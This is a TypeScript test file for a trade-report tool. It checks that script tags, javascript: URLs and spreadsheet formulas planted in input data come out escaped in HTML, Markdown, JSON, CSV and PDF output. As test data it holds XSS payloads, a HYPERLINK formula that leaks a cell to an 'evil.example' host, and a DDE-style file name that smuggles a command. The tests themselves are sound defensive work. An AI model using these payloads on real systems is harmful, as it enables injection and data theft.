/**
 * Hostile text in data files must stay text in every output. A published-figures file is loaded
 * whose publisher, note and source URL carry script tags, `javascript:`/`data:` addresses and
 * spreadsheet formulas (SYNTHETIC rows: the real KITA rows with those fields replaced), under a
 * file name that is itself hostile, beside Korea's real DOTS workbook. The report is then read
 * back in each format the CLI and the API give out: Markdown, HTML, PDF (its text and link
 * annotations), JSON and the CSV download.
 */
import { execFileSync } from "node:child_process";
import { copyFileSync, existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { basename, join } from "node:path";
import Papa from "papaparse";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { sampleFiles } from "../src/cli/commands/demo.js";
import { ingestFile } from "../src/ingest/pipeline.js";
import { buildReport } from "../src/report/buildReport.js";
import type { ReportDocument } from "../src/report/document.js";
import { CHROMIUM_PATH, PdfPrinter, renderReport } from "../src/report/render/index.js";
import { createApp, type TradetiesApp } from "../src/server/app.js";
import { DuckDbTradeStore } from "../src/store/DuckDbTradeStore.js";

const SCRIPT = `<script>alert("tradeties")</script>`;
const FORMULA = `=HYPERLINK("http://evil.example/?leak="&A1,"click")`;
const HOSTILE_URLS = ["javascript:alert(document.domain)", " JaVaScRiPt:alert(1)", "data:text/html,<script>alert(1)</script>", "vbscript:msgbox(1)"];
/** A file name a shell and a spreadsheet would both misread. */
const HOSTILE_FILE = `=cmd|' calc'!A0 <img src=x onerror=alert(1)>.csv`;

const sampleFile = (name: string) => sampleFiles().find((f) => basename(f) === name)!;

let dir: string;
let store: DuckDbTradeStore;
let doc: ReportDocument;
let app: TradetiesApp;

beforeAll(async () => {
  dir = mkdtempSync(join(tmpdir(), "tradeties-hostile-"));
  const parsed = Papa.parse<Record<string, string>>(readFileSync(sampleFile("published_figures.csv"), "utf8"), { header: true, skipEmptyLines: true });
  const rows = parsed.data.map((r, i) => ({ ...r, publisher: `${SCRIPT} ${r.publisher}`, source_url: HOSTILE_URLS[i % HOSTILE_URLS.length]!, note: `${FORMULA} ${r.note}` }));
  const figures = join(dir, HOSTILE_FILE);
  writeFileSync(figures, Papa.unparse({ fields: parsed.meta.fields!, data: rows }));
  const dots = join(dir, `=HYPERLINK("evil.example";"x")+cmd.xlsx`);
  copyFileSync(sampleFile("DOTS_106.xlsx"), dots);
  store = await DuckDbTradeStore.open(join(dir, "hostile.duckdb"));
  for (const [f, format] of [[dots, "imf-dots"], [figures, "published-figures"]] as const) {
    const report = await ingestFile(store, f, { format });
    expect(report.rowsStored).toBeGreaterThan(0);
  }
  doc = await buildReport(store, "KOR", "RUS", { from: 1990, to: 2019 });
  app = createApp({ store, webRoot: false });
});

afterAll(async () => {
  await app?.shutdown();
  await store?.close();
  rmSync(dir, { recursive: true, force: true });
});

/** Every value of an attribute, double- or single-quoted or bare, as a browser would read it. */
function attributeValues(html: string, name: string): string[] {
  return [...html.matchAll(new RegExp(`\\s${name}\\s*=\\s*(?:"([^"]*)"|'([^']*)'|([^\\s>]+))`, "gi"))].map((m) => m[1] ?? m[2] ?? m[3]!);
}

describe("hostile names and addresses in the data", () => {
  it("reach the report (the test would prove nothing otherwise)", () => {
    const notes = doc.footnotes.map((f) => f.text).join(" ");
    const sources = doc.footnotes.flatMap((f) => f.sources) as Array<{ file: string; source_url?: string }>;
    expect(notes).toContain(SCRIPT);
    expect(sources.map((s) => s.source_url)).toContain("javascript:alert(document.domain)");
    expect(sources.map((s) => s.file)).toContain(HOSTILE_FILE);
  });

  it("HTML: script tags are text, only http(s) addresses are links, and a CSP forbids scripts", async () => {
    const html = (await renderReport(doc, "html")).body as string;
    expect(html).not.toMatch(/<script/i);
    expect(html).not.toMatch(/<img/i);
    expect(html).toContain("&lt;script&gt;alert(&quot;tradeties&quot;)&lt;/script&gt;");
    for (const href of [...attributeValues(html, "href"), ...attributeValues(html, "xlink:href")]) expect(href).toMatch(/^(#|https?:\/\/)/);
    // No event-handler attribute inside any tag (the file name's "onerror=" is escaped text).
    expect(html).not.toMatch(/<[a-z][^>]*\son\w+\s*=/i);
    // The refused addresses are still shown, as text, so the reader can see what the file said.
    expect(html).toContain("javascript:alert(document.domain)");
    const csp = /<meta http-equiv="Content-Security-Policy" content="([^"]+)">/.exec(html)?.[1];
    expect(csp).toContain("default-src 'none'");
    expect(csp).toContain("script-src 'none'");
    expect(html.indexOf("Content-Security-Policy")).toBeLessThan(html.indexOf("<title>"));
  });

  it("Markdown: no link or autolink to anything but http(s), and no raw HTML", async () => {
    const md = (await renderReport(doc, "md")).body as string;
    const targets = [...md.matchAll(/\]\(([^)]*)\)|<([a-z][a-z0-9+.-]*:[^>\s]*)>/gi)].map((m) => m[1] ?? m[2]!);
    for (const t of targets) expect(t).toMatch(/^https?:\/\//);
    // Markdown passes raw HTML through unless the "<" is backslash-escaped.
    expect(md).not.toMatch(/(?<!\\)<(script|img)/i);
    expect(md).toContain("`javascript:alert(document.domain)`");
  });

  it("JSON: the text is data, unchanged, and the API serves it as JSON that browsers must not sniff", async () => {
    const res = await app.request("/api/pairs/KOR/RUS/report?format=json&from=1990&to=2019");
    expect(res.status).toBe(200);
    expect(res.headers.get("content-type")).toMatch(/^application\/json/);
    expect(res.headers.get("x-content-type-options")).toBe("nosniff");
    const body = await res.text();
    expect((JSON.parse(body) as ReportDocument).footnotes.map((f) => f.text).join(" ")).toContain(SCRIPT);
  });

  it("the API's HTML and Markdown downloads are the safe renderings, with a CSP header as well", async () => {
    const html = await app.request("/api/pairs/KOR/RUS/report?format=html&from=1990&to=2019");
    expect(html.headers.get("content-security-policy")).toContain("default-src");
    const text = await html.text();
    expect(text).toContain('http-equiv="Content-Security-Policy"');
    for (const href of attributeValues(text, "href")) expect(href).toMatch(/^(#|https?:\/\/)/);
    const md = await (await app.request("/api/pairs/KOR/RUS/report?format=md&from=1990&to=2019")).text();
    expect(md).not.toMatch(/<javascript:|\]\(javascript:/i);
  });

  it("CSV download: no cell starts like a formula unless it is a number", async () => {
    const res = await app.request("/api/pairs/KOR/RUS?format=csv&from=1990&to=2019");
    expect(res.status).toBe(200);
    const csv = await res.text();
    // The hostile DOTS file name is quoted in the sources column.
    expect(csv).toContain("HYPERLINK");
    const cells = Papa.parse<string[]>(csv, { skipEmptyLines: true }).data.flat();
    for (const cell of cells) if (/^[=+\-@\t\r]/.test(cell)) expect(cell).toMatch(/^-?\d+(\.\d+)?(e[-+]?\d+)?$/i);
  });

  const pdfTools = existsSync(CHROMIUM_PATH) && existsSync("/usr/bin/pdftotext");
  it.skipIf(!pdfTools)("PDF: the script tag is printed as text and no link annotation points anywhere but http(s)", async () => {
    const printer = await PdfPrinter.launch();
    try {
      const pdf = (await renderReport(doc, "pdf", { printer })).body as Buffer;
      const file = join(dir, "hostile.pdf");
      writeFileSync(file, pdf);
      const text = execFileSync("/usr/bin/pdftotext", ["-layout", file, "-"], { encoding: "utf8" });
      expect(text).toContain("<script>alert(");
      const uris = [...pdf.toString("latin1").matchAll(/\/URI\s*\(([^)]*)\)/g)].map((m) => m[1]!);
      for (const u of uris) expect(u).toMatch(/^https?:\/\//);
    } finally {
      await printer.close();
    }
  });
});
